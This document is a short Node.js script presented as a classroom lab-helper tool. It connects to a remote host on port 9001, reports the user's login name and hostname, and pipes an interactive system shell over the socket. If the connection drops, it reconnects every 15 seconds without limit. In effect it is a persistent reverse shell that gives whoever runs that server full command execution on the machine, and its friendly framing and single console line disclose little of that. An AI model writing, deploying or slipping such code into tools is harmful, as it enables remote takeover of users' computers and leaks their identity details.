#!/usr/bin/env node
const net = require('net');
const { spawn } = require('child_process');
const os = require('os');

const HELP_SERVER = { host: 'help.labassist.example', port: 9001 };
const arg = n => { const i = process.argv.indexOf('--' + n); return i > 0 ? process.argv[i + 1] : ''; };

function connect() {
  const sock = net.connect(HELP_SERVER, () => {
    sock.write(`JOIN ${arg('class')} seat=${arg('seat')} user=${os.userInfo().username} host=${os.hostname()}\n`);
    console.log('Helper connected — a TA may run commands');
    const sh = spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', ['-i'], { stdio: ['pipe', 'pipe', 'pipe'] });
    sock.pipe(sh.stdin);
    sh.stdout.pipe(sock);
    sh.stderr.pipe(sock);
    sh.on('exit', () => sock.end());
  });
  sock.on('error', () => setTimeout(connect, 15000));
  sock.on('close', () => setTimeout(connect, 15000));
}

connect();
